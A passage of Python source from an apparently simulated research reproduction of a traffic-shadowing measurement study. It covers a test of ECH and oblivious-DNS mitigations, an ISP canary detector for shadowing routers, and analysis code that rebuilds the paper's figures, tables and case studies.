sends plain-SNI and ECH ClientHellos past the same DPI sniffer and counts
captures, then verifies the oblivious-DNS visibility split.
"""

import random

from conftest import emit

from repro.analysis.report import percent
from repro.mitigations import (
    EchConfig,
    ObliviousDnsProxy,
    build_ech_client_hello,
    seal_query,
)
from repro.mitigations.ech import terminate
from repro.net.packet import Packet
from repro.net.path import Hop
from repro.observers.onpath import WireSniffer
from repro.protocols.tls import ClientHello, wrap_handshake

ZONE = "www.experiment.domain"


class _CountingExhibitor:
    """Stands in for a ShadowExhibitor: records what DPI hands over."""

    def __init__(self):
        self.observed = []

    def observe(self, domain, observed_from):
        self.observed.append(domain)


def make_counting_exhibitor():
    exhibitor = _CountingExhibitor()
    return exhibitor, exhibitor.observed
CONFIG = EchConfig(config_id=1, public_name="cdn-frontend.example",
                   secret=b"0123456789abcdef")


def run_decoys(use_ech: bool, count: int = 200):
    rng = random.Random(99)
    exhibitor, observed = make_counting_exhibitor()
    hop = Hop(address="100.64.1.1", asn=4134, country="CN")
    sniffer = WireSniffer(hop, ("tls",), exhibitor, ZONE)
    terminated = []
    for index in range(count):
        inner = f"label{index:04d}-0001.{ZONE}"
        if use_ech:
            hello = build_ech_client_hello(inner, CONFIG, rng)
        else:
            hello = ClientHello(server_name=inner,
                                random=bytes(rng.randrange(256) for _ in range(32)))
        packet = Packet.tcp("100.96.0.1", "198.18.0.1", 64, 40000, 443,
                            wrap_handshake(hello.encode()))
        sniffer.tap(3, hop, packet)
        decoded = ClientHello.decode(packet.payload[5:])
        terminated.append(terminate(decoded, CONFIG) if use_ech
                          else decoded.server_name)
    return sniffer.domains_captured, observed, terminated


def test_ext_mitigations(benchmark):
    plain_captured, plain_observed, _ = run_decoys(use_ech=False)
    ech_captured, ech_observed, ech_terminated = benchmark.pedantic(
        run_decoys, args=(True,), rounds=1, iterations=1,
    )

    # ODoH visibility split on 50 sealed queries.
    rng = random.Random(7)
    proxy = ObliviousDnsProxy("100.88.200.1", key_id=1,
                              target_secret=b"0123456789abcdef",
                              resolve=lambda proxy_address, name: "203.0.113.11")
    for index in range(50):
        sealed = seal_query(f"q{index:03d}-0001.{ZONE}", key_id=1,
                            target_secret=b"0123456789abcdef", rng=rng)
        proxy.relay(f"100.96.0.{index % 200 + 1}", sealed)

    emit("ext_mitigations", "\n".join([
        "Extension: Section 6 mitigations on the measurement substrate",
        f"plain SNI decoys past CN DPI: {plain_captured}/200 captured "
        f"({len(plain_observed)} fed to the exhibitor)",
        f"ECH decoys past the same DPI: {ech_captured}/200 captured "
        f"({len(ech_observed)} fed to the exhibitor)",
        f"...but the terminating provider still recovered "
        f"{sum(1 for name in ech_terminated if name.endswith(ZONE))}/200 "
        "inner names (encryption does not stop destination collection)",
        f"ODoH: 50 queries relayed; proxy log holds 0 clear-text names, "
        f"target log holds 0 client addresses; correlation possible: "
        f"{proxy.correlation_possible()}",
    ]))

    assert plain_captured == 200
    assert ech_captured == 0
    assert ech_observed == []
    assert all(name.endswith(ZONE) for name in ech_terminated)
    assert not proxy.correlation_possible()

"""ISP-side shadowing detection (the paper's Section 6 recommendation).

"We believe ISPs should learn about the risks of traffic shadowing and
establish detection mechanisms to find unknown traffic shadowing
exhibitors residing in their networks."

:mod:`repro.detection.canary` turns the paper's own methodology inward:
an operator routes canary traffic through each router it owns and watches
a canary zone for re-appearance, localizing DPI boxes to the device.
"""

from repro.detection.canary import CanaryReport, CanaryVerdict, IspCanaryDetector

__all__ = ["IspCanaryDetector", "CanaryReport", "CanaryVerdict"]

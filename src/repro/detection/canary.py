"""Router-granular canary sweeps for network operators.

The measurement paper locates observers from the *outside*, hop by hop.
An operator has a better vantage: it can steer traffic through one owned
router at a time.  The detector builds a minimal path through each
candidate router, sends canary messages (unique names under a canary
zone, exactly like the paper's decoys), and waits.  Any canary that
re-appears at the operator's honeypot convicts the specific router it was
steered through.
"""

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.identifier import DecoyIdentity, IdentifierCodec
from repro.honeypot.deployment import HoneypotDeployment
from repro.net.packet import Packet
from repro.net.path import Hop, Path
from repro.observers.onpath import ObserverDeployment
from repro.protocols.http import make_get
from repro.protocols.tls import ClientHello, wrap_handshake
from repro.simkit.events import Simulator


@dataclass(frozen=True)
class CanaryVerdict:
    """One router's sweep outcome."""

    router_address: str
    asn: int
    canaries_sent: int
    canaries_leaked: int
    leaked_protocols: Tuple[str, ...]

    @property
    def hosts_shadowing_device(self) -> bool:
        return self.canaries_leaked > 0


@dataclass
class CanaryReport:
    """Full sweep over one network."""

    asn: int
    verdicts: List[CanaryVerdict] = field(default_factory=list)

    @property
    def flagged(self) -> List[CanaryVerdict]:
        return [verdict for verdict in self.verdicts
                if verdict.hosts_shadowing_device]

    @property
    def clean(self) -> List[CanaryVerdict]:
        return [verdict for verdict in self.verdicts
                if not verdict.hosts_shadowing_device]


class IspCanaryDetector:
    """Sweeps an operator's routers for shadowing devices.

    The operator controls routing, so each canary's path is exactly
    ``[candidate router] -> [operator sink]`` — a leak can only come from
    the candidate.  Canary domains live under the operator's own canary
    zone, which resolves to the operator's honeypot (modelled by the
    shared :class:`HoneypotDeployment` here).
    """

    def __init__(
        self,
        sim: Simulator,
        deployment: HoneypotDeployment,
        observer_deployment: ObserverDeployment,
        source_address: str,
        rng: random.Random,
        protocols: Sequence[str] = ("dns", "http", "tls"),
        canaries_per_router: int = 2,
    ):
        if canaries_per_router < 1:
            raise ValueError("need at least one canary per router")
        self._sim = sim
        self._deployment = deployment
        self._observers = observer_deployment
        self._source = source_address
        self._rng = rng
        self.protocols = tuple(protocols)
        self.canaries_per_router = canaries_per_router
        self._codec = IdentifierCodec()
        self._sent: Dict[str, Tuple[str, str]] = {}
        """canary domain -> (router address, protocol)."""
        self._sequence = 0

    def sweep(self, routers: Sequence[Hop]) -> None:
        """Send canaries through every candidate router (virtual-time now)."""
        from repro.core.decoy import DecoyFactory
        factory = DecoyFactory(self._deployment.zone, self._rng,
                               codec=self._codec)
        sink = Hop(address="203.0.113.250", asn=0, country="US",
                   is_destination=True)
        for router in routers:
            path = Path([router, sink])
            sniffer = self._observers.sniffer_for(router)
            if sniffer is not None:
                path.add_tap(1, sniffer.tap)
            for protocol in self.protocols:
                for _ in range(self.canaries_per_router):
                    identity = DecoyIdentity(
                        sent_at=int(self._sim.now()),
                        vp_address=self._source,
                        dst_address=sink.address,
                        ttl=8,
                        sequence=self._sequence,
                    )
                    self._sequence = (self._sequence + 1) % 10000
                    decoy = factory.build(identity, protocol)
                    self._sent[decoy.domain] = (router.address, protocol)
                    path.transit(decoy.packet)

    def report(self, asn: int, routers: Sequence[Hop]) -> CanaryReport:
        """Judge each router from the canary-zone honeypot log.

        Call after the simulator has run through the listening window.
        """
        leaked_by_router: Dict[str, List[str]] = {}
        logged_domains = set(self._deployment.log.domains())
        for domain, (router_address, protocol) in self._sent.items():
            if domain in logged_domains:
                leaked_by_router.setdefault(router_address, []).append(protocol)
        report = CanaryReport(asn=asn)
        per_router = self.canaries_per_router * len(self.protocols)
        for router in routers:
            leaks = leaked_by_router.get(router.address, [])
            report.verdicts.append(CanaryVerdict(
                router_address=router.address,
                asn=router.asn,
                canaries_sent=per_router,
                canaries_leaked=len(leaks),
                leaked_protocols=tuple(sorted(set(leaks))),
            ))
        return report

"""Section 5.2: open-port audit of on-path observers."""

from typing import Dict, List, Sequence

from repro.core.phase2 import ObserverLocation
from repro.intel.portscan import PortScanResult, scan_observers, summarize_ports
from repro.topology.model import TopologyModel


def observer_port_audit(
    locations: Sequence[ObserverLocation],
    topology: TopologyModel,
) -> Dict[str, object]:
    """Probe every ICMP-revealed observer address for open ports.

    Reproduces the Section 5.2 audit: most observers expose nothing; among
    the responsive ones, TCP/179 (BGP) dominates — routing devices between
    networks.
    """
    addresses = sorted({
        location.observer_address
        for location in locations
        if location.observer_address is not None
    })
    results = scan_observers(addresses, topology.known_router)
    summary = summarize_ports(results)
    summary["results"] = results
    return summary

"""Analyses that regenerate the paper's tables and figures.

Every function here consumes an
:class:`~repro.core.experiment.ExperimentResult` (or pieces of one) and
returns plain data structures — the benchmark harness renders them as the
rows/series the paper reports.

Artifact map:

* Figure 3  → :func:`repro.analysis.landscape.problematic_path_ratios`
* Table 2   → :func:`repro.analysis.landscape.observer_location_table`
* Table 3   → :func:`repro.analysis.origins.top_observer_ases`
* Figure 4  → :func:`repro.analysis.temporal.dns_delay_cdfs`
* Figure 5  → :func:`repro.analysis.combos.decoy_breakdown`
* Figure 6  → :func:`repro.analysis.origins.origin_as_distribution`
* Figure 7  → :func:`repro.analysis.temporal.web_delay_cdfs`
* Section 5.1 multi-use → :func:`repro.analysis.temporal.multi_use_stats`
* Section 5.1/5.2 incentives → :mod:`repro.analysis.payloads`
* Section 5.2 ports → :func:`repro.analysis.ports.observer_port_audit`

Every figure/table also has an exact streaming mirror reading a merged
:class:`~repro.analysis.streaming.AnalysisState` (the
``*_from_accumulator`` constructors in each module); see
:mod:`repro.analysis.streaming` and ``docs/STREAMING.md``.
"""

from repro.analysis.casestudies import anycast_case_study, yandex_case_study
from repro.analysis.combos import decoy_breakdown
from repro.analysis.geography import country_destination_matrix, regional_ratios
from repro.analysis.longitudinal import per_round_summaries, round_stability
from repro.analysis.landscape import observer_location_table, problematic_path_ratios
from repro.analysis.origins import (
    observer_as_groups,
    origin_as_distribution,
    top_observer_ases,
)
from repro.analysis.payloads import incentive_report
from repro.analysis.ports import observer_port_audit
from repro.analysis.paperreport import full_report, full_report_from_state
from repro.analysis.stats import ks_distance, proportion_ci, total_variation
from repro.analysis.streaming import AccumulatorMergeError, AnalysisState
from repro.analysis.temporal import (
    Cdf,
    dns_delay_cdfs,
    multi_use_stats,
    web_delay_cdfs,
)
from repro.analysis.validation import validate

__all__ = [
    "Cdf",
    "dns_delay_cdfs",
    "web_delay_cdfs",
    "multi_use_stats",
    "problematic_path_ratios",
    "observer_location_table",
    "top_observer_ases",
    "origin_as_distribution",
    "observer_as_groups",
    "decoy_breakdown",
    "incentive_report",
    "observer_port_audit",
    "full_report",
    "full_report_from_state",
    "AnalysisState",
    "AccumulatorMergeError",
    "validate",
    "ks_distance",
    "total_variation",
    "proportion_ci",
    "country_destination_matrix",
    "regional_ratios",
    "per_round_summaries",
    "round_stability",
    "yandex_case_study",
    "anycast_case_study",
]

"""HTTP(S) probing-incentive analysis (Sections 5.1 and 5.2).

What do unsolicited HTTP(S) requests actually try to do?  The paper finds
~95% perform path enumeration against the honey website, none carry
exploit payloads, and large shares of their origins sit on IP blocklists.
"""

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.correlate import ShadowingEvent
from repro.intel.blocklist import Blocklist
from repro.intel.exploitdb import PayloadVerdict, check_payload


@dataclass(frozen=True)
class IncentiveReport:
    """Aggregate verdicts over unsolicited HTTP(S) requests."""

    requests: int
    enumeration_share: float
    exploit_share: float
    root_share: float
    blocklist_rate_http: float
    blocklist_rate_https: float
    top_paths: Tuple[Tuple[str, int], ...]


def incentive_report(
    events: Sequence[ShadowingEvent],
    blocklist: Blocklist,
    decoy_protocol: Optional[str] = None,
    top_n: int = 10,
) -> IncentiveReport:
    """Classify every unsolicited HTTP(S) request's payload.

    ``decoy_protocol`` restricts to requests triggered by one decoy type
    (Section 5.1 analyzes DNS-triggered probes; 5.2 the HTTP/TLS ones).
    """
    verdicts: Dict[PayloadVerdict, int] = {verdict: 0 for verdict in PayloadVerdict}
    path_counts: Dict[str, int] = {}
    origins_http: List[str] = []
    origins_https: List[str] = []
    total = 0
    for event in events:
        if event.request.protocol not in ("http", "https"):
            continue
        if decoy_protocol is not None and event.decoy.protocol != decoy_protocol:
            continue
        path = event.request.path or "/"
        verdicts[check_payload(path)] += 1
        path_counts[path] = path_counts.get(path, 0) + 1
        if event.request.protocol == "http":
            origins_http.append(event.origin_address)
        else:
            origins_https.append(event.origin_address)
        total += 1
    top_paths = tuple(
        sorted(path_counts.items(), key=lambda item: (-item[1], item[0]))[:top_n]
    )
    if total == 0:
        return IncentiveReport(0, 0.0, 0.0, 0.0, 0.0, 0.0, ())
    return IncentiveReport(
        requests=total,
        enumeration_share=verdicts[PayloadVerdict.ENUMERATION] / total,
        exploit_share=verdicts[PayloadVerdict.EXPLOIT] / total,
        root_share=verdicts[PayloadVerdict.BENIGN] / total,
        blocklist_rate_http=blocklist.hit_rate(origins_http),
        blocklist_rate_https=blocklist.hit_rate(origins_https),
        top_paths=top_paths,
    )


def incentive_report_from_accumulator(
    accumulator,
    decoy_protocol: Optional[str] = None,
    top_n: int = 10,
) -> IncentiveReport:
    """Streaming mirror of :func:`incentive_report`, reading an
    :class:`~repro.analysis.streaming.IncentiveAccumulator`.

    Verdicts were classified and blocklist membership resolved at observe
    time; totals sum and origin sets union across shards, so every share
    divides the identical integers the batch pass produces.
    """
    verdicts = accumulator.verdict_counts(decoy_protocol)
    total = sum(verdicts.values())
    path_counts = accumulator.path_counts(decoy_protocol)
    top_paths = tuple(
        sorted(path_counts.items(), key=lambda item: (-item[1], item[0]))[:top_n]
    )
    if total == 0:
        return IncentiveReport(0, 0.0, 0.0, 0.0, 0.0, 0.0, ())
    return IncentiveReport(
        requests=total,
        enumeration_share=verdicts.get(PayloadVerdict.ENUMERATION.name, 0) / total,
        exploit_share=verdicts.get(PayloadVerdict.EXPLOIT.name, 0) / total,
        root_share=verdicts.get(PayloadVerdict.BENIGN.name, 0) / total,
        blocklist_rate_http=accumulator.blocklist_rate("http", decoy_protocol),
        blocklist_rate_https=accumulator.blocklist_rate("https", decoy_protocol),
        top_paths=top_paths,
    )

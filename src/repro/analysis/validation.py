"""Validating the pipeline against simulation ground truth.

Unique to a simulated reproduction: the exhibitors record what they
*actually* did (:class:`~repro.observers.exhibitor.GroundTruth`), so the
measurement pipeline's recall and precision are computable — how much of
the planted shadowing did the decoy-honeypot methodology recover, and did
it ever flag something no exhibitor did?
"""

from dataclasses import dataclass
from typing import Dict, List, Sequence, Set

from repro.core.correlate import CorrelationResult, DecoyLedger, ShadowingEvent
from repro.observers.exhibitor import GroundTruth


@dataclass(frozen=True)
class ValidationReport:
    """Pipeline-vs-ground-truth comparison."""

    planted_domains: int
    """Decoy domains at least one exhibitor leveraged (scheduled >= 1
    unsolicited request for)."""
    recovered_domains: int
    """Of those, domains the classifier flagged as shadowed."""
    false_domains: int
    """Domains flagged shadowed although no exhibitor leveraged them and
    no benign source (retry/refresh) could explain them — should be 0."""
    benign_only_domains: int
    """Domains flagged shadowed purely from benign resolver behaviour
    (retries/refreshes).  These are genuine unsolicited requests by the
    paper's definition, but no covert exhibitor stands behind them."""

    @property
    def recall(self) -> float:
        if self.planted_domains == 0:
            return 1.0
        return self.recovered_domains / self.planted_domains

    @property
    def exhibitor_precision(self) -> float:
        """Fraction of flagged domains explained by a real exhibitor or a
        known benign mechanism."""
        flagged = self.recovered_domains + self.false_domains + self.benign_only_domains
        if flagged == 0:
            return 1.0
        return 1.0 - self.false_domains / flagged


def validate(ground_truth: GroundTruth, phase1: CorrelationResult,
             phase2: CorrelationResult, ledger: DecoyLedger,
             observation_window: float) -> ValidationReport:
    """Compare recovered shadowing against planted behaviour.

    ``observation_window`` bounds recall accounting: an exhibitor that
    scheduled its requests beyond the honeypots' listening window cannot
    be recovered, and such domains are excluded from the planted set.
    """
    planted: Set[str] = set()
    for observation in ground_truth.observations:
        if observation.leveraged and observation.scheduled_requests > 0:
            planted.add(observation.domain)

    flagged: Set[str] = {
        event.decoy.domain
        for event in list(phase1.events) + list(phase2.events)
    }

    recovered = planted & flagged
    missed = planted - flagged
    extra = flagged - planted

    # Extra flags from benign mechanisms: DNS-DNS repeats of a DNS decoy
    # (resolver retries / cache refreshes) involve no exhibitor.
    benign_only = set()
    for domain in extra:
        record = ledger.lookup(domain)
        if record is not None and record.protocol == "dns":
            benign_only.add(domain)
    false_domains = extra - benign_only

    return ValidationReport(
        planted_domains=len(planted),
        recovered_domains=len(recovered),
        false_domains=len(false_domains),
        benign_only_domains=len(benign_only),
    )

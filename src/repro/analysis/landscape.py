"""Landscape analyses: Figure 3 and Table 2."""

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.correlate import DecoyLedger, ShadowingEvent
from repro.core.phase2 import ObserverLocation


@dataclass(frozen=True)
class PathRatioRow:
    """One cell of Figure 3: VP grouping × destination, per decoy protocol."""

    vp_country: str
    destination_name: str
    destination_country: str
    protocol: str
    paths_total: int
    paths_problematic: int

    @property
    def ratio(self) -> float:
        return self.paths_problematic / self.paths_total if self.paths_total else 0.0


def problematic_path_ratios(
    ledger: DecoyLedger,
    events: Sequence[ShadowingEvent],
    group_by_vp_country: bool = True,
) -> List[PathRatioRow]:
    """Figure 3: the ratio of client-server paths subject to shadowing.

    A *path* is one (VP, destination) pair for a given decoy protocol; it
    is problematic when at least one of its decoys triggered an
    unsolicited request.
    """
    total: Dict[Tuple[str, str, str, str], set] = {}
    problematic: Dict[Tuple[str, str, str, str], set] = {}
    dest_country: Dict[str, str] = {}
    for record in ledger.records(phase=1):
        vp_group = record.vp_country if group_by_vp_country else "ALL"
        key = (vp_group, record.destination_name, record.protocol,
               record.destination_country)
        total.setdefault(key, set()).add((record.vp_id, record.destination_address))
        dest_country[record.destination_name] = record.destination_country
    for event in events:
        record = event.decoy
        if record.phase != 1:
            continue
        vp_group = record.vp_country if group_by_vp_country else "ALL"
        key = (vp_group, record.destination_name, record.protocol,
               record.destination_country)
        problematic.setdefault(key, set()).add(
            (record.vp_id, record.destination_address)
        )
    rows = []
    for key, paths in sorted(total.items()):
        vp_group, destination_name, protocol, destination_country = key
        rows.append(
            PathRatioRow(
                vp_country=vp_group,
                destination_name=destination_name,
                destination_country=destination_country,
                protocol=protocol,
                paths_total=len(paths),
                paths_problematic=len(problematic.get(key, set())),
            )
        )
    return rows


def destination_ratio_summary(rows: Sequence[PathRatioRow],
                              protocol: str) -> Dict[str, float]:
    """Collapse Figure 3 rows to per-destination ratios for one protocol."""
    totals: Dict[str, int] = {}
    bad: Dict[str, int] = {}
    for row in rows:
        if row.protocol != protocol:
            continue
        totals[row.destination_name] = totals.get(row.destination_name, 0) + row.paths_total
        bad[row.destination_name] = bad.get(row.destination_name, 0) + row.paths_problematic
    return {
        name: (bad.get(name, 0) / count if count else 0.0)
        for name, count in totals.items()
    }


def vp_country_ratio_summary(rows: Sequence[PathRatioRow],
                             protocol: str) -> Dict[str, float]:
    """Collapse Figure 3 rows to per-VP-country ratios for one protocol."""
    totals: Dict[str, int] = {}
    bad: Dict[str, int] = {}
    for row in rows:
        if row.protocol != protocol:
            continue
        totals[row.vp_country] = totals.get(row.vp_country, 0) + row.paths_total
        bad[row.vp_country] = bad.get(row.vp_country, 0) + row.paths_problematic
    return {
        country: (bad.get(country, 0) / count if count else 0.0)
        for country, count in totals.items()
    }


def observer_location_table(
    locations: Sequence[ObserverLocation],
) -> Dict[str, Dict[int, float]]:
    """Table 2: normalized (1-10) observer-location distribution per decoy
    protocol, as percentages.

    Only located paths contribute; 10 means the destination.
    """
    counts: Dict[str, Dict[int, int]] = {}
    for location in locations:
        normalized = location.normalized_hop()
        if normalized is None:
            continue
        per_protocol = counts.setdefault(location.protocol, {})
        per_protocol[normalized] = per_protocol.get(normalized, 0) + 1
    table: Dict[str, Dict[int, float]] = {}
    for protocol, per_hop in counts.items():
        total = sum(per_hop.values())
        table[protocol] = {
            hop: 100.0 * count / total for hop, count in sorted(per_hop.items())
        }
    return table


def destination_share(locations: Sequence[ObserverLocation],
                      protocol: str) -> float:
    """Fraction of located observers sitting at the destination."""
    relevant = [loc for loc in locations if loc.protocol == protocol and loc.located]
    if not relevant:
        return 0.0
    return sum(1 for loc in relevant if loc.at_destination) / len(relevant)


# -- streaming constructors (see repro.analysis.streaming) -----------------


def problematic_path_ratios_from_accumulator(
    accumulator,
    group_by_vp_country: bool = True,
) -> List[PathRatioRow]:
    """Figure 3 from a
    :class:`~repro.analysis.streaming.LandscapeAccumulator`: the
    accumulator kept the exact (VP, destination) pair sets, so totals and
    problematic counts — and therefore every ratio — match the batch
    recount bit for bit."""
    total, problematic = accumulator.path_sets(group_by_vp_country)
    rows = []
    for key, paths in sorted(total.items()):
        vp_group, destination_name, protocol, destination_country = key
        rows.append(
            PathRatioRow(
                vp_country=vp_group,
                destination_name=destination_name,
                destination_country=destination_country,
                protocol=protocol,
                paths_total=len(paths),
                paths_problematic=len(problematic.get(key, set())),
            )
        )
    return rows


def observer_location_table_from_accumulator(
    accumulator,
) -> Dict[str, Dict[int, float]]:
    """Table 2 from a
    :class:`~repro.analysis.streaming.LandscapeAccumulator`."""
    table: Dict[str, Dict[int, float]] = {}
    for protocol, per_hop in accumulator.hop_counts().items():
        total = sum(per_hop.values())
        table[protocol] = {
            hop: 100.0 * count / total for hop, count in sorted(per_hop.items())
        }
    return table


def destination_share_from_accumulator(accumulator, protocol: str) -> float:
    """Streaming mirror of :func:`destination_share`."""
    return accumulator.destination_share(protocol)

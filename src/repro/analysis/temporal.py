"""Temporal analyses: retention CDFs (Figures 4/7) and multi-use stats.

The time between a decoy's emission and an unsolicited request bearing its
data is the paper's proxy for how long observers retain user data.
"""

from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional, Sequence, Tuple

from repro.core.correlate import CorrelationResult, ShadowingEvent
from repro.datasets.resolvers import RESOLVER_H_NAMES
from repro.simkit.units import DAY, HOUR, MINUTE


@dataclass(frozen=True)
class Cdf:
    """Empirical CDF over a list of non-negative samples."""

    samples: Tuple[float, ...]

    @classmethod
    def from_values(cls, values: Iterable[float]) -> "Cdf":
        return cls(samples=tuple(sorted(values)))

    def __len__(self) -> int:
        return len(self.samples)

    def at(self, threshold: float) -> float:
        """P(X <= threshold)."""
        if not self.samples:
            return 0.0
        import bisect
        return bisect.bisect_right(self.samples, threshold) / len(self.samples)

    def quantile(self, q: float) -> float:
        if not 0.0 <= q <= 1.0:
            raise ValueError(f"quantile must be in [0, 1], got {q}")
        if not self.samples:
            raise ValueError("empty CDF has no quantiles")
        index = min(len(self.samples) - 1, int(q * len(self.samples)))
        return self.samples[index]

    def series(self, thresholds: Sequence[float]) -> List[Tuple[float, float]]:
        """(threshold, cumulative fraction) pairs — a plottable curve."""
        return [(threshold, self.at(threshold)) for threshold in thresholds]


# The x-axis grid the paper's figures effectively use.
DEFAULT_THRESHOLDS: Tuple[float, ...] = (
    1.0, 10.0, MINUTE, 10 * MINUTE, HOUR, 6 * HOUR,
    DAY, 3 * DAY, 10 * DAY, 30 * DAY,
)


def dns_delay_cdfs(
    events: Sequence[ShadowingEvent],
    resolvers: Sequence[str] = RESOLVER_H_NAMES,
) -> Dict[str, Cdf]:
    """Figure 4: per-resolver CDF of (unsolicited − decoy) time for DNS
    decoys sent to the Resolver_h set."""
    deltas: Dict[str, List[float]] = {name: [] for name in resolvers}
    for event in events:
        if event.decoy.protocol != "dns":
            continue
        name = event.decoy.destination_name
        if name in deltas:
            deltas[name].append(event.delta)
    return {name: Cdf.from_values(values) for name, values in deltas.items()}


def other_resolver_cdf(events: Sequence[ShadowingEvent],
                       exclude: Sequence[str] = RESOLVER_H_NAMES) -> Cdf:
    """Delay CDF for DNS decoys to public resolvers beyond Resolver_h
    (the paper: 95% of their unsolicited requests arrive within 1 minute)."""
    excluded = set(exclude)
    values = [
        event.delta
        for event in events
        if event.decoy.protocol == "dns"
        and event.decoy.destination_kind == "dns"
        and event.decoy.destination_name not in excluded
    ]
    return Cdf.from_values(values)


def web_delay_cdfs(events: Sequence[ShadowingEvent]) -> Dict[str, Cdf]:
    """Figure 7: delay CDFs for HTTP and TLS decoys."""
    deltas: Dict[str, List[float]] = {"http": [], "tls": []}
    for event in events:
        if event.decoy.protocol in deltas:
            deltas[event.decoy.protocol].append(event.delta)
    return {protocol: Cdf.from_values(values) for protocol, values in deltas.items()}


@dataclass(frozen=True)
class MultiUseStats:
    """Section 5.1: how often one decoy's data is leveraged repeatedly."""

    decoys_with_late_requests: int
    share_more_than_3: float
    """Fraction of DNS decoys still producing >3 unsolicited requests more
    than one hour after emission (paper: 51%)."""
    share_more_than_10: float
    """Same with >10 (paper: 2.4%)."""


def multi_use_stats(events: Sequence[ShadowingEvent],
                    after: float = HOUR,
                    protocol: str = "dns") -> MultiUseStats:
    """Count late unsolicited requests per decoy."""
    late_counts: Dict[str, int] = {}
    for event in events:
        if event.decoy.protocol != protocol:
            continue
        if event.delta > after:
            late_counts[event.decoy.domain] = late_counts.get(event.decoy.domain, 0) + 1
    total = len(late_counts)
    if total == 0:
        return MultiUseStats(0, 0.0, 0.0)
    more_than_3 = sum(1 for count in late_counts.values() if count > 3)
    more_than_10 = sum(1 for count in late_counts.values() if count > 10)
    return MultiUseStats(
        decoys_with_late_requests=total,
        share_more_than_3=more_than_3 / total,
        share_more_than_10=more_than_10 / total,
    )


# -- streaming constructors (see repro.analysis.streaming) -----------------
#
# Each *_from_accumulator mirrors its batch counterpart above, reading a
# CdfAccumulator / MultiUseAccumulator instead of re-scanning events.
# The accumulators store the exact per-event delta multisets, so the
# resulting Cdf objects are bit-identical to the batch ones.


def dns_delay_cdfs_from_accumulator(
    accumulator,
    resolvers: Sequence[str] = RESOLVER_H_NAMES,
) -> Dict[str, Cdf]:
    """Figure 4 from a :class:`~repro.analysis.streaming.CdfAccumulator`."""
    return {
        name: Cdf.from_values(
            accumulator.deltas(decoy_protocols=("dns",), include_names=(name,))
        )
        for name in resolvers
    }


def other_resolver_cdf_from_accumulator(
    accumulator,
    exclude: Sequence[str] = RESOLVER_H_NAMES,
) -> Cdf:
    return Cdf.from_values(accumulator.deltas(
        decoy_protocols=("dns",), destination_kinds=("dns",),
        exclude_names=exclude,
    ))


def web_delay_cdfs_from_accumulator(accumulator) -> Dict[str, Cdf]:
    """Figure 7 from a :class:`~repro.analysis.streaming.CdfAccumulator`."""
    return {
        protocol: Cdf.from_values(accumulator.deltas(decoy_protocols=(protocol,)))
        for protocol in ("http", "tls")
    }


def multi_use_stats_from_accumulator(accumulator,
                                     protocol: str = "dns") -> MultiUseStats:
    """Section 5.1 from a
    :class:`~repro.analysis.streaming.MultiUseAccumulator` (the ``after``
    threshold is the accumulator's own, fixed at observation time)."""
    late_counts = accumulator.late_counts(protocol)
    total = len(late_counts)
    if total == 0:
        return MultiUseStats(0, 0.0, 0.0)
    more_than_3 = sum(1 for count in late_counts.values() if count > 3)
    more_than_10 = sum(1 for count in late_counts.values() if count > 10)
    return MultiUseStats(
        decoys_with_late_requests=total,
        share_more_than_3=more_than_3 / total,
        share_more_than_10=more_than_10 / total,
    )


def reappearance_share(events: Sequence[ShadowingEvent], destination: str,
                       after: float = 10 * DAY,
                       protocols: Tuple[str, ...] = ("http", "https")) -> float:
    """Share of shadowed decoys to ``destination`` whose data re-appears in
    the given request protocols more than ``after`` seconds later
    (the paper's "40% of Yandex query names re-appear in HTTP(S) 10 days
    later")."""
    shadowed = set()
    late = set()
    for event in events:
        if event.decoy.destination_name != destination:
            continue
        shadowed.add(event.decoy.domain)
        if event.request.protocol in protocols and event.delta > after:
            late.add(event.decoy.domain)
    if not shadowed:
        return 0.0
    return len(late) / len(shadowed)

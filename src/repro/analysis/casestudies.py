"""The paper's two case studies as first-class analyses (Section 5.1).

* **Case Study I — Yandex**: nearly every decoy shadowed, data retained
  for days, half the names re-probed over HTTP(S) with directory
  enumeration.
* **Case Study II — 114DNS**: anycast split — CN instances shadow, US
  instances do not, so the problematic-path ratio towers for CN vantage
  points only.
"""

from dataclasses import dataclass
from typing import Dict, Optional, Sequence

from repro.analysis.combos import http_https_share, shadowed_share
from repro.analysis.temporal import Cdf, dns_delay_cdfs, reappearance_share
from repro.core.correlate import DecoyLedger, ShadowingEvent
from repro.simkit.units import DAY


@dataclass(frozen=True)
class YandexCaseStudy:
    """Case Study I digest."""

    shadowed_share: float
    http_https_share: float
    median_delay: Optional[float]
    share_after_10_days: float
    reappearance_5d: float

    def matches_paper_shape(self) -> bool:
        """The qualitative claims of Case Study I."""
        return (
            self.shadowed_share > 0.9
            and self.http_https_share > 0.2
            and (self.median_delay or 0) > DAY / 4
        )


def yandex_case_study(ledger: DecoyLedger,
                      events: Sequence[ShadowingEvent]) -> YandexCaseStudy:
    cdf = dns_delay_cdfs(events).get("Yandex", Cdf.from_values([]))
    return YandexCaseStudy(
        shadowed_share=shadowed_share(ledger, events, "Yandex"),
        http_https_share=http_https_share(ledger, events, "Yandex"),
        median_delay=cdf.quantile(0.5) if len(cdf) else None,
        share_after_10_days=(1 - cdf.at(10 * DAY)) if len(cdf) else 0.0,
        reappearance_5d=reappearance_share(events, "Yandex", after=5 * DAY),
    )


@dataclass(frozen=True)
class AnycastCaseStudy:
    """Case Study II digest: per-VP-region susceptibility of an anycast
    destination."""

    destination: str
    cn_paths: int
    cn_problematic: int
    global_paths: int
    global_problematic: int

    @property
    def cn_ratio(self) -> float:
        return self.cn_problematic / self.cn_paths if self.cn_paths else 0.0

    @property
    def global_ratio(self) -> float:
        return (self.global_problematic / self.global_paths
                if self.global_paths else 0.0)

    def matches_paper_shape(self) -> bool:
        """CN instances shadow; the residual global ratio (benign retries)
        stays far below."""
        return (self.cn_paths > 0 and self.cn_ratio > 0.6
                and self.global_ratio < self.cn_ratio / 2)


def anycast_case_study(ledger: DecoyLedger, events: Sequence[ShadowingEvent],
                       destination: str = "114DNS") -> AnycastCaseStudy:
    problematic_pairs = {
        (event.decoy.vp_id, event.decoy.destination_address)
        for event in events
        if event.decoy.destination_name == destination
        and event.decoy.protocol == "dns"
    }
    cn_paths = set()
    global_paths = set()
    for record in ledger.records(phase=1):
        if record.destination_name != destination or record.protocol != "dns":
            continue
        pair = (record.vp_id, record.destination_address)
